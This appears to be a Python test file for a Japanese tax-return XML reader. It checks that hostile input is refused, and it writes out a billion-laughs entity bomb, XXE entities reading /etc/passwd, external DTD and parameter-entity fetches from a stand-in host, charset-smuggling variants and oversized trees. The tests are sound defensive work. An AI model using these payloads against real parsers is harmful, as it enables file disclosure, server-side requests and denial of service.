"""T-I05: XML made to hurt is refused at once, and nothing outside is touched."""

from __future__ import annotations

import pytest

from juminzei.formats import national_return
from juminzei.formats.errors import FormatError
from juminzei.formats.national_return_xml import DEEPEST, MOST_BYTES, MOST_ELEMENTS
from support.made_up_returns import a_return, xml_of

LAUGHS = b"".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">'.encode() if n else b'<!ENTITY l0 "ha">'
    for n in range(10)
)
WHOLE = xml_of(a_return({"ABB00080": 1}))
BODY = WHOLE.partition(b"?>")[2]


def refused(content: bytes) -> FormatError:
    with pytest.raises(FormatError) as refusal:
        national_return.read_return(content)
    return refusal.value


@pytest.mark.parametrize(
    "head",
    [
        b"<!DOCTYPE DATA [" + LAUGHS + b"]>",
        b'<!DOCTYPE DATA [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE DATA SYSTEM "http://192.0.2.1/evil.dtd">',
        b'<!DOCTYPE DATA [<!ENTITY % p SYSTEM "http://192.0.2.1/p">%p;]>',
        b"<!doctype DATA>",
    ],
)
def test_document_types_and_entities_are_refused(head: bytes) -> None:
    """T-I05: an entity bomb and external entities are refused before anything is expanded."""
    content = head + BODY.replace(b">1<", b">&l9;<")
    assert "文書型宣言" in refused(content).problem


@pytest.mark.parametrize("charset", ["utf-16", "utf-16-be", "utf-32"])
def test_other_charsets_hide_nothing(charset: str) -> None:
    """T-I05: a document type in another charset is not overlooked."""
    text = f'<!DOCTYPE DATA [<!ENTITY x "y">]>{BODY.decode()}'
    assert "文字コード" in refused(text.encode(charset)).problem


@pytest.mark.parametrize("named", [b"UTF-7", b"IBM037", b"ISO-2022-JP"])
def test_a_charset_that_is_only_claimed_is_refused(named: bytes) -> None:
    """T-I05: UTF-7 would write a document type without its signs."""
    assert (
        "文字コード" in refused(b'<?xml version="1.0" encoding="' + named + b'"?>' + BODY).problem
    )


def test_deep_and_endless_trees_are_refused() -> None:
    """T-I05: nesting and the number of elements have bounds."""
    deep = DEEPEST + 1
    assert refused(b"<a>" * deep + b"</a>" * deep).problem.startswith("要素が多すぎる")
    assert refused(b"<a>" * 5000 + b"</a>" * 5000)
    assert refused(b"<a>" + b"<b/>" * MOST_ELEMENTS + b"</a>").problem.startswith("要素が多すぎる")


def test_a_text_above_the_limit_is_not_parsed() -> None:
    """T-I05: size is asked before the parser is."""
    assert "大きすぎます" in refused(b" " * (MOST_BYTES + 1)).problem


def test_a_value_of_the_file_does_not_stand_in_the_refusal() -> None:
    broken = WHOLE.replace("山田　太郎".encode(), b"<SECRETNAME>")
    assert "SECRETNAME" not in str(refused(broken))
